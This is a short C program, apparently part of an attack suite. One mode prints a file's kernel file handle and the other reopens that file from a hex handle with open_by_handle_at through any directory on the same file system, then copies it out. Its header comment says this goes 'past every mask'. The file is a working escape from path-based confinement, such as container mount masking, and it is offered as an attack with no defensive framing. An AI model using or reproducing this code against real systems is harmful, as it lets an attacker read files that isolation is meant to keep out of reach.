/* handle find PATH: prints the file handle of PATH.
 * handle open DIRECTORY HANDLE COPY: opens it by way of any directory of the same file system, past every mask. */
#include "attack.h"

union buffer {
    struct file_handle handle;
    unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int find(const char *path)
{
    union buffer buffer = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
    int mount;
    must("name_to_handle_at", name_to_handle_at(AT_FDCWD, path, &buffer.handle, &mount, 0));
    for (size_t i = 0; i < sizeof(struct file_handle) + buffer.handle.handle_bytes; i++)
        printf("%02x", buffer.bytes[i]);
    return 0;
}

int main(int argc, char **argv)
{
    if (strcmp(argument(argc, argv, 1), "find") == 0)
        return find(argument(argc, argv, 2));
    union buffer buffer = {0};
    const char *digits = argument(argc, argv, 3);
    for (size_t i = 0; i < strlen(digits) / 2 && i < sizeof buffer.bytes; i++)
        sscanf(digits + 2 * i, "%2hhx", &buffer.bytes[i]);
    int directory = must("open the directory", open(argument(argc, argv, 2), O_RDONLY | O_DIRECTORY));
    copy_out(must("open_by_handle_at", open_by_handle_at(directory, &buffer.handle, O_RDONLY)), argument(argc, argv, 4));
    return 0;
}
